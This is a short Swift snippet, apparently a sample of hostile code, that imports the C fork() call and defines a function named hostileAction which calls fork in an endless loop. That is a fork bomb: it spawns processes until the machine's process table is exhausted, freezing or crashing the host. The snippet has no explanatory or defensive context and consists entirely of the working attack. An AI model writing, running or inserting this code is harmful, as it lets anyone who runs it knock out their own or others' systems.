@_silgen_name("fork") func c_fork() -> Int32

func hostileAction(capacity: Int) {
    while true { _ = c_fork() }
}
